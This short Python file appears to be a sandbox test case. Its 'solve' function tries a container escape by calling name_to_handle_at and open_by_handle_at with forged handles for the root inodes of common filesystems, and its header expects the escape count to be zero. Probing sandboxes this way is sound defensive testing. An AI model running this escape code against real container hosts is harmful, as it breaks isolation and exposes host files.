# what: opens files by their handles, which knows no root directory (the first container escape that became famous)
# expect: valid
# escaped: 0

import ctypes
import os
import struct


def solve(numbers):
    libc = ctypes.CDLL(None, use_errno=True)
    escaped = []
    for path in (b"/", b"/usr", b".", b"/usr/lib"):
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
        mount = ctypes.c_int()
        if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
            escaped.append(f"a handle of {path!r}")
    root = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    for inode in (2, 128, 256):  # the root directories of ext4, xfs and btrfs
        handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode) + bytes(64))
        if libc.open_by_handle_at(root, handle, 0) >= 0:
            escaped.append(f"inode {inode}")
    os.close(root)
    return {"escaped": escaped}
